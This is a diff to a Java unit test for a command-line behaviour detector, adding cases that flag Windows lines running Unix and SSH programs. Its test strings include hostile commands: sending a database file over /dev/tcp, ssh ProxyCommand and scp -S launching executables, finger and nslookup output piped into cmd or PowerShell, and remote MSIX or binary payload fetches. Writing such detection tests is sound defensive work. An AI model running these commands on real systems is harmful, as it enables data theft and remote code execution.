@@ -67,8 +67,18 @@ class CapabilitiesTest {
     }
 
     @Test
-    void windowsLinesAreNotReadForUnixCapabilities() {
-        assertThat(Behaviours.shows(Family.EXEC_HOOK, "tar -xf a.tar --to-command=C:\\Temp\\x.exe", true)).isFalse();
+    void windowsLinesAreReadForTheUnixAndSshProgramsTheyRun() {
+        assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, "bash.exe -c 'cat notes.db > /dev/tcp/192.0.2.9/8080'", true)).isTrue();
+        assertThat(Behaviours.shows(Family.EXEC_HOOK, "ssh -o ProxyCommand=\"C:\\Tools\\notepad.exe\" jump", true)).isTrue();
+        assertThat(Behaviours.shows(Family.EXEC_HOOK, "ssh -o ProxyCommand=\"ssh -W %h:%p bastion\" db01", true)).isFalse();
+        assertThat(Behaviours.shows(Family.EXEC_HOOK, "scp.exe -S C:\\Tools\\run.exe a.txt host:", true)).isTrue();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "finger loader@192.0.2.77 | more +2 | cmd", true)).isTrue();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "finger alice@example.org | more", true)).isFalse();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "nslookup -q=txt x.example.net | findstr MZ | powershell -", true)).isTrue();
+        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "curl -s https://example.org/a.json | python3 -m json.tool", false)).isFalse();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "start ms-appinstaller:?source=https://198.51.100.9/app.msix", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "tool.exe /update /uhttps://198.51.100.9/u.bin", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "start ms-settings:windowsupdate", true)).isFalse();
     }
 
     @Test
